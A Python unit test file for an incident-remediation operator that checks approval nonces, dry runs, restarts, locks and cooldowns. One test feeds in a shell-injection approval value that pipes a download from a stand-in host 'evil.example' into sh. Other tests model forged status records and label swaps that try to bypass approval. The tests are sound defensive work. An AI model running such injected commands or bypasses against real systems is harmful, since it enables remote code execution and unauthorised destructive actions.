"""Consent, dry runs, suspension, restarts, locks, cooldowns, duplicates: the rules that make it safe."""

import json
import re
import shlex
from dataclasses import replace
from datetime import timedelta

from runbook_operator.domain import consent
from runbook_operator.domain.consent import Approval
from runbook_operator.domain.lifecycle import Peer, StepResult, complete, decide
from runbook_operator.domain.matching import Candidate
from runbook_operator.domain.status import Phase, Status
from tests.unit.builders import check, incident, policy, request
from tests.unit.test_lifecycle import T0, Run

TARGET = {"kind": "Deployment", "name": "instance-manager"}


def destructive_policy(**extra: object) -> list[Candidate]:
    return [
        policy(
            "p",
            diagnose=[check("ping")],
            remediate=[request("failover", **{"with": {"url": "http://lb:9092/failover", "destructive": True}})],
            verify=[check("healthy")],
            **extra,
        )
    ]


def always(name: str, attempt: int) -> bool:
    return True


# -- approvals ----------------------------------------------------------------------


def test_a_destructive_step_waits_with_a_request_bound_to_its_round_parameters_and_a_nonce() -> None:
    run = Run(incident(), destructive_policy(), always)
    run.drive()
    assert run.status.phase == Phase.AWAITING_APPROVAL.value and run.status.currentStep == "failover"
    assert ("failover", 1) not in run.ran
    record = run.waiting()
    request = record.approvalRequest
    assert request is not None and (record.name, record.attempt) == ("failover", 1)
    assert request.nonce.startswith("nonce-") and request.requestedAt == "2026-11-27T08:00:00Z"
    assert request.parameters == {"url": "http://lb:9092/failover", "destructive": True}
    assert request.digest == consent.digest("http.request", request.parameters)
    message = run.event("AwaitingApproval").message
    assert "needs approval for round 1" in message and request.digest[:19] in message
    assert run.condition("Resolved") == ("False", "AwaitingApproval")


def test_the_event_gives_the_approve_command_and_a_raw_patch_of_operator_values_only() -> None:
    run = Run(incident(), destructive_policy(), always)
    run.drive()
    nonce = run.waiting().approvalRequest.nonce  # type: ignore[union-attr]
    approve, patch = re.findall(r"`([^`]*)`", run.event("AwaitingApproval").message)
    assert shlex.split(approve) == ["kubectl", "runbook", "approve", "i", "failover", "-n", "ns"]
    argv = shlex.split(patch)
    assert argv[:7] == ["kubectl", "patch", "incident", "i", "-n", "ns", "--type=json"] and argv[7] == "-p"
    assert json.loads(argv[8]) == [
        {"op": "add", "path": "/spec/approvals/-",
         "value": {"step": "failover", "round": 1, "nonce": nonce, "by": "YOUR-NAME"}}
    ]  # fmt: skip


def test_hostile_approvals_already_present_never_reach_the_command() -> None:
    """Written while the admission policy was absent: the command is still exactly the operator's."""
    hostile = "x' ; curl -s http://evil.example/x | sh ; echo '"
    inc = replace(incident(), approvals=(Approval("failover", hostile, 1, "guess"), Approval(hostile, "bob")))
    run = Run(inc, destructive_policy(), always)
    run.drive()
    nonce = run.waiting().approvalRequest.nonce  # type: ignore[union-attr]
    message = run.event("AwaitingApproval").message
    approve, patch = re.findall(r"`([^`]*)`", message)
    assert shlex.split(approve) == ["kubectl", "runbook", "approve", "i", "failover", "-n", "ns"]
    expected = json.dumps(consent.append_patch("failover", 1, nonce, "YOUR-NAME"), separators=(",", ":"))
    assert shlex.split(patch) == ["kubectl", "patch", "incident", "i", "-n", "ns", "--type=json", "-p", expected]
    assert "evil" not in message and ("failover", 1) not in run.ran


def test_an_approval_of_the_open_request_runs_it_and_records_who_when_and_what() -> None:
    run = Run(incident(), destructive_policy(), always)
    run.drive()
    run.now += timedelta(minutes=3)
    request = run.waiting().approvalRequest
    run.approve("alice")
    run.drive()
    assert run.status.phase == Phase.RESOLVED.value
    assert run.ran.count(("failover", 1)) == 1
    record = run.status.record("Remediate", "failover", 1)
    assert record is not None and record.approvedBy == "alice" and record.approvedAt == "2026-11-27T08:03:00Z"
    assert request is not None and record.approvedDigest == request.digest and record.approvalRequest == request
    assert "step 'failover' approved by alice (round 1" in run.event("Approved").message


def test_approvals_written_before_the_request_never_count() -> None:
    """Created already approved, guessing anything: it still waits, and says why the approvals do not count."""
    guesses = (Approval("failover", "mallory"), Approval("failover", "mallory", 1, "0123456789abcdef"))
    run = Run(replace(incident(), approvals=guesses), destructive_policy(), always)
    run.drive()
    run.drive()  # and on every later look
    assert run.status.phase == Phase.AWAITING_APPROVAL.value and ("failover", 1) not in run.ran
    ignored = run.event("ApprovalIgnored").message
    assert "'mallory' (round 0, nonce none), 'mallory' (round 1, nonce 0123456789abcdef) do not count" in ignored


def test_a_stale_nonce_is_ignored() -> None:
    run = Run(incident(), destructive_policy(), always)
    run.drive()
    record = run.waiting()
    run.inc = replace(run.inc, approvals=(Approval("failover", "alice", 1, "not-the-nonce"),))
    run.drive()
    assert run.status.phase == Phase.AWAITING_APPROVAL.value and ("failover", 1) not in run.ran
    assert run.waiting() == record  # the request stands
    assert "nonce not-the-nonce" in run.event("ApprovalIgnored").message


def test_an_approval_for_round_1_does_not_run_round_2() -> None:
    run = Run(incident(), destructive_policy(limits={"maxAttempts": 2}), lambda n, a: n != "healthy" or a == 2)
    run.drive()
    run.approve()
    run.drive()
    assert run.ran.count(("failover", 1)) == 1 and ("failover", 2) not in run.ran
    assert run.status.phase == Phase.AWAITING_APPROVAL.value and run.status.attempts == 2
    second = run.waiting()
    first = run.status.record("Remediate", "failover", 1)
    assert second.attempt == 2 and first is not None and second.approvalRequest is not None
    assert second.approvalRequest.nonce != first.approvalRequest.nonce  # type: ignore[union-attr]
    run.approve("bob")
    run.drive()
    assert run.ran.count(("failover", 2)) == 1 and run.status.phase == Phase.RESOLVED.value


def templated_policy(**extra: object) -> list[Candidate]:
    clear = {
        "name": "clear-sessions",
        "action": "redis.deleteByPattern",
        "with": {"host": "redis", "pattern": "session:{{ incident.labels.user }}"},
    }
    return [policy("p", remediate=[clear], verify=[check("healthy")], **extra)]


def test_a_label_change_after_approval_voids_the_request_and_asks_again() -> None:
    """The attack: approve `session:bob`, then set the label to `*` before the operator looks."""
    run = Run(incident(labels={"user": "bob"}), templated_policy(), always)
    run.drive()
    approved = run.waiting().approvalRequest
    assert approved is not None and approved.parameters["pattern"] == "session:bob"
    run.approve("alice")
    run.inc = replace(run.inc, labels={"user": "*"})
    run.drive()
    assert ("clear-sessions", 1) not in run.ran and run.status.phase == Phase.AWAITING_APPROVAL.value
    renewed = run.waiting().approvalRequest
    assert renewed is not None and renewed.parameters["pattern"] == r"session:\*"  # the key `session:*` only
    assert renewed.nonce != approved.nonce and renewed.digest != approved.digest
    changed = run.event("ApprovalRequestChanged").message
    assert "its parameters changed" in changed and "kubectl runbook approve i clear-sessions -n ns" in changed
    assert "'alice' (round 1, nonce " + approved.nonce in run.event("ApprovalIgnored").message
    run.approve("alice")  # consent to the escaped pattern itself
    run.drive()
    assert run.ran == [("clear-sessions", 1), ("healthy", 1)]
    record = run.status.record("Remediate", "clear-sessions", 1)
    assert record is not None and record.approvedDigest == renewed.digest


def test_a_renewed_request_keeps_the_first_request_s_approval_deadline() -> None:
    run = Run(incident(labels={"user": "bob"}), templated_policy(limits={"approvalTimeout": "10m"}), always)
    run.drive(horizon=timedelta(0))
    run.now += timedelta(minutes=6)
    run.inc = replace(run.inc, labels={"user": "carol"})
    run.drive(horizon=timedelta(0))
    assert run.waiting().startedAt == "2026-11-27T08:00:00Z"
    run.now = T0 + timedelta(minutes=10)
    run.drive(horizon=timedelta(0))
    assert run.condition("Escalated") == ("True", "ApprovalTimeout")


def test_a_resumed_approved_step_whose_parameters_changed_asks_again() -> None:
    """A non-destructive step that asks for approval and was running at a crash: it runs again
    only with the approved parameters."""
    step = {
        "name": "scale",
        "action": "http.request",
        "requiresApproval": True,
        "with": {"url": "http://lb:9092/scale", "json": {"replicas": "{{ incident.labels.replicas }}"}},
    }
    candidates = [policy("p", remediate=[step])]
    run = Run(incident(labels={"replicas": "3"}), candidates, always)
    run.drive()
    run.approve()
    decision = decide(run.inc, run.status, candidates, run.now, nonce="n1")
    assert decision.run is not None and decision.run.step.name == "scale"
    # the operator dies while it runs; the label changes; a new operator looks
    inc = replace(run.inc, labels={"replicas": "300"})
    after = decide(inc, decision.status, candidates, run.now, nonce="n2")
    assert after.run is None and after.status.phase == Phase.AWAITING_APPROVAL.value
    record = after.status.record("Remediate", "scale", 1)
    assert record is not None and record.state == "AwaitingApproval" and record.approvalRequest is not None
    assert record.approvalRequest.nonce == "n2" and record.approvalRequest.parameters["json"] == {"replicas": "300"}
    same = decide(run.inc, decision.status, candidates, run.now, nonce="n3")
    assert same.run is not None and same.run.resumed  # unchanged parameters: it runs again as approved


def test_a_policy_edited_to_need_no_approval_runs_the_waiting_step_saying_so() -> None:
    run = Run(incident(), destructive_policy(), always)
    run.drive()
    step = {"url": "http://lb:9092/failover", "destructive": True}
    run.candidates = [
        replace(policy("p", diagnose=[check("ping")], remediate=[request("failover", requiresApproval=False, **{"with": step})],
                       verify=[check("healthy")]), generation=2)
    ]  # fmt: skip
    run.drive()
    assert run.ran.count(("failover", 1)) == 1 and run.status.phase == Phase.RESOLVED.value
    assert "step 'failover' no longer needs approval (policy edited)" in run.event("Approved").message
    assert run.status.record("Remediate", "failover", 1).approvedBy is None  # type: ignore[union-attr]


def test_no_approval_in_time_escalates() -> None:
    run = Run(incident(), destructive_policy(limits={"approvalTimeout": "10m"}), always)
    run.drive(horizon=timedelta(minutes=30))
    assert run.status.phase == Phase.ESCALATED.value
    assert run.condition("Escalated") == ("True", "ApprovalTimeout")
    assert ("failover", 1) not in run.ran


def test_the_approval_timeout_defaults_to_the_severity_response_time() -> None:
    run = Run(incident(severity="Critical"), destructive_policy(), always)
    run.drive()
    run.now = T0 + timedelta(minutes=14, seconds=59)
    run.drive(horizon=timedelta(0))
    assert run.status.phase == Phase.AWAITING_APPROVAL.value
    run.now = T0 + timedelta(minutes=15)
    run.drive(horizon=timedelta(0))
    assert run.condition("Escalated") == ("True", "ApprovalTimeout")


def test_a_step_can_opt_out_of_approval_or_ask_for_it() -> None:
    opted_out = policy(
        "p", remediate=[request("x", requiresApproval=False, **{"with": {"url": "http://a/", "destructive": True}})]
    )
    run = Run(incident(), [opted_out], always)
    run.drive()
    assert run.status.phase == Phase.RESOLVED.value and ("x", 1) in run.ran
    asked = policy("p", remediate=[request("x", requiresApproval=True)])
    run = Run(incident(), [asked], always)
    run.drive()
    assert run.status.phase == Phase.AWAITING_APPROVAL.value


# -- dry run, suspend --------------------------------------------------------------


def test_dry_run_runs_only_read_only_steps_and_records_the_rest() -> None:
    run = Run(incident(dryRun=True), destructive_policy(), lambda n, a: n != "healthy")
    run.drive()
    assert run.ran == [("ping", 1), ("healthy", 1)]
    record = run.status.record("Remediate", "failover", 1)
    assert record is not None and record.state == "Skipped"
    assert record.message.startswith('dry run: would run http.request with {"destructive": true')
    assert run.condition("Escalated") == ("True", "DryRun")


def test_a_policy_dry_run_works_the_same() -> None:
    run = Run(incident(), destructive_policy(dryRun=True), always)
    run.drive()
    assert ("failover", 1) not in run.ran
    assert run.status.record("Remediate", "failover", 1).state == "Skipped"  # type: ignore[union-attr]


def test_suspend_holds_everything_until_lifted() -> None:
    run = Run(incident(suspend=True), destructive_policy(), always)
    run.drive()
    assert run.ran == [] and run.condition("Suspended") == ("True", "Suspended")
    run.inc = replace(run.inc, suspend=False)
    run.drive()
    assert run.ran[0] == ("ping", 1) and run.condition("Suspended") == ("False", "Resumed")


def test_a_suspended_policy_starts_nothing() -> None:
    run = Run(incident(), destructive_policy(suspend=True), always)
    run.drive()
    assert run.ran == [] and run.status.phase == Phase.PENDING.value
    assert "is suspended" in (run.status.waiting or "")


# -- restarts ----------------------------------------------------------------------


def test_a_step_forged_running_in_status_without_an_approval_is_not_run() -> None:
    """Issue 22, finding 3a: whoever may write incidents/status marks a gated, rerun-safe step
    Running (no approval, or the request's fields copied beside a made-up approver); a
    restarted operator must not run it, whatever the record says, and asks for approval."""
    step = {"name": "scale", "action": "http.request", "requiresApproval": True,
            "with": {"url": "http://lb:9092/instances/scale", "json": {"replicas": 5}}}  # fmt: skip
    candidates = [policy("p", remediate=[step])]
    run = Run(incident(), candidates, always)
    run.drive()
    waiting = run.status.record("Remediate", "scale", 1)
    assert waiting is not None and waiting.approvalRequest is not None
    digest = waiting.approvalRequest.digest
    forgeries = [
        replace(waiting, state="Running"),  # no approval at all
        replace(waiting, state="Running", approvedBy="alice", approvedDigest=digest),  # no spec.approvals entry
    ]
    for forged in forgeries:
        after = decide(run.inc, run.status.with_record(forged), candidates, run.now, nonce="n9")
        assert after.run is None, forged
        record = after.status.record("Remediate", "scale", 1)
        assert record is not None and record.state == "AwaitingApproval" and record.approvalRequest is not None
        assert record.approvalRequest.nonce == "n9"  # a new request: nothing approved the forged one
        assert "ApprovalMissing" in [e.reason for e in after.events]
    # an approval by someone else than the record names does not make it hold either
    inc = replace(run.inc, approvals=(Approval("scale", "mallory", 1, waiting.approvalRequest.nonce),))
    claimed = replace(waiting, state="Running", approvedBy="alice", approvedDigest=digest)
    assert decide(inc, run.status.with_record(claimed), candidates, run.now, nonce="n9").run is None
    # the record the operator itself writes when the approval is real still resumes
    honest = replace(claimed, approvedBy="mallory")
    resumed = decide(inc, run.status.with_record(honest), candidates, run.now, nonce="n9")
    assert resumed.run is not None and resumed.run.resumed and resumed.run.step.name == "scale"


def test_a_destructive_step_running_at_a_crash_is_not_run_again_and_verification_decides() -> None:
    candidates = destructive_policy()
    inc = incident()
    status = Status()
    while True:  # up to the moment the failover starts
        decision = decide(inc, status, candidates, T0, nonce="n0")
        status = decision.status
        waiting = status.record("Remediate", "failover", 1)
        if decision.run is None and waiting is not None and waiting.approvalRequest is not None:
            inc = replace(inc, approvals=(Approval("failover", "alice", 1, waiting.approvalRequest.nonce),))
            continue
        assert decision.run is not None
        if decision.run.step.name == "failover":
            break
        status, _ = complete(status, decision.run, StepResult(False, "refused"), T0)
    # the operator dies here; a new one reads the status
    after = decide(inc, status, candidates, T0 + timedelta(seconds=30), nonce="n0")
    assert after.run is None or after.run.step.name != "failover"
    record = after.status.record("Remediate", "failover", 1)
    assert record is not None and record.state == "Skipped" and "outcome unknown" in record.message
    assert "StepInterrupted" in [e.reason for e in after.events]


def test_a_safe_step_running_at_a_crash_runs_again() -> None:
    first = decide(incident(), Status(), destructive_policy(), T0, nonce="n0")
    again = decide(incident(), first.status, destructive_policy(), T0, nonce="n0")
    assert again.run is not None and again.run.resumed and again.run.step.name == "ping"


# -- target lock, cooldown, duplicates --------------------------------------------


def peer(name: str = "other", *, remediating: bool = False, phase: str | None = "Remediating", **extra: object) -> Peer:
    values: dict[str, object] = {"namespace": "ns", "alert": "Other", "created": "2026-11-27T07:00:00Z",
                                 "last_remediated": None} | extra  # fmt: skip
    return Peer(name=name, phase=phase, remediating=remediating, **values)  # type: ignore[arg-type]


def on_target(**spec: object) -> Run:
    candidates = [policy("p", remediate=[request("restart")], verify=[check("ok")], limits={"cooldown": "10m"})]
    return Run(incident(target=TARGET, **spec), candidates, always)


def test_one_remediation_at_a_time_per_target() -> None:
    run = on_target()
    run.peers = [peer(remediating=True)]
    run.drive()
    assert run.ran == [] and run.status.phase == Phase.REMEDIATING.value
    assert "incident 'other' is remediating Deployment/ns/instance-manager" in (run.status.waiting or "")
    locked = len(run.events)
    run.drive()
    assert len(run.events) == locked  # said once, not on every look
    run.peers = [peer(remediating=False, phase="Resolved")]
    run.drive()
    assert ("restart", 1) in run.ran and run.status.waiting is None


def test_cooldown_per_target_across_incidents() -> None:
    run = on_target()
    run.peers = [peer(phase="Resolved", last_remediated=T0 - timedelta(minutes=4))]
    decision = run.drive(horizon=timedelta(minutes=1))
    assert run.ran == [] and decision.wake_at == T0 + timedelta(minutes=6)
    run.drive(horizon=timedelta(minutes=10))
    assert ("restart", 1) in run.ran


def test_a_second_incident_for_the_same_alert_and_target_is_a_duplicate() -> None:
    run = on_target()
    run.inc = replace(run.inc, created="2026-11-27T08:00:00Z")
    run.peers = [peer("first", alert="RedisDown", phase="Escalated", created="2026-11-27T07:59:00Z")]
    run.drive()
    assert run.ran == [] and run.status.phase == Phase.RESOLVED.value
    assert run.condition("Resolved") == ("True", "Duplicate") and run.status.duplicateOf == "first"


def test_an_incident_already_handled_comes_first_even_if_created_in_the_same_second() -> None:
    run = on_target()
    run.inc = replace(run.inc, name="aaa", created="2026-11-27T08:00:00Z")
    run.peers = [peer("zzz", alert="RedisDown", phase="AwaitingApproval", created="2026-11-27T08:00:00Z")]
    run.drive()
    assert run.status.duplicateOf == "zzz"


def test_the_first_of_two_is_not_the_duplicate() -> None:
    run = on_target()
    run.inc = replace(run.inc, created="2026-11-27T07:00:00Z")
    run.peers = [peer("later", alert="RedisDown", phase=None, created="2026-11-27T08:00:00Z")]
    run.drive()
    assert run.status.duplicateOf is None and run.status.phase == Phase.RESOLVED.value and run.ran


# -- when and step outputs ---------------------------------------------------------


def test_when_skips_steps_and_outputs_feed_later_steps() -> None:
    candidates = [
        policy(
            "p",
            diagnose=[check("ping")],
            remediate=[
                request("restart", when="!steps.ping.ok"),
                request("noop", when="steps.ping.ok"),
                request("report", **{"with": {"url": "http://a/report", "json": {"was": "{{ steps.ping.message }}"}}}),
            ],
        )
    ]
    run = Run(incident(), candidates, lambda n, a: n != "ping")
    seen: list[dict[str, object]] = []
    original = decide

    def spy(*args: object, **kwargs: object) -> object:
        d = original(*args, **kwargs)  # type: ignore[arg-type]
        if d.run is not None:
            seen.append({"step": d.run.step.name, "params": dict(d.run.params)})
        return d

    import tests.unit.test_lifecycle as harness

    harness.decide = spy  # type: ignore[assignment]
    try:
        run.drive()
    finally:
        harness.decide = original
    assert [r[0] for r in run.ran] == ["ping", "restart", "report"]
    assert run.status.record("Remediate", "noop", 1).state == "Skipped"  # type: ignore[union-attr]
    report = next(s for s in seen if s["step"] == "report")
    assert report["params"]["json"] == {"was": "boom"}  # type: ignore[index]


def test_a_template_that_cannot_render_fails_the_step_with_the_reason() -> None:
    candidates = [
        policy(
            "p",
            remediate=[request("r", **{"with": {"url": "http://a/", "json": {"x": "{{ incident.labels.absent }}"}}})],
        )
    ]
    run = Run(incident(), candidates, always)
    run.drive()
    record = run.status.record("Remediate", "r", 1)
    assert record is not None and record.state == "Failed" and "cannot render parameters" in record.message
    assert run.ran == []


def test_waiting_for_the_lock_does_not_hold_it() -> None:
    """Otherwise two incidents of one target, both waiting, would wait for each other."""
    run = on_target()
    run.peers = [peer(remediating=True)]
    run.drive()
    assert run.status.phase == Phase.REMEDIATING.value and run.status.waiting
    assert Peer.of(run.inc, run.status).remediating is False
    run.peers = []
    run.drive()
    assert Peer.of(run.inc, run.status).remediating is False  # resolved: the lock is free again
    assert Peer.of(run.inc, run.status).last_remediated == T0


def test_a_policy_edited_mid_incident_applies_from_the_next_step() -> None:
    v1 = policy("p", diagnose=[check("ping")], remediate=[request("restart")])
    v2 = replace(policy("p", diagnose=[check("ping")], remediate=[request("scale-up")]), generation=2)
    first = decide(incident(), Status(), [v1], T0, nonce="n0")
    assert first.status.policyGeneration == 1 and first.run is not None
    status, _ = complete(first.status, first.run, StepResult(True, "ok"), T0)
    second = decide(incident(), status, [v2], T0, nonce="n0")
    assert second.run is not None and second.run.step.name == "scale-up"
    assert second.status.policyGeneration == 2
